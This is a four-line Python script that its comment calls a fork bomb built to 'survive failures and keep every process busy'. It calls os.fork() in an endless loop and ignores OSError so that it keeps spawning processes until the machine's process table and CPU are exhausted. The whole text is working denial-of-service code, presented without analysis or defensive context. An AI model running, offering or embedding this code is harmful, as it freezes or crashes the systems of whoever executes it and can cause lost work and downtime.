# A fork bomb that survives failures and keeps every process busy.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
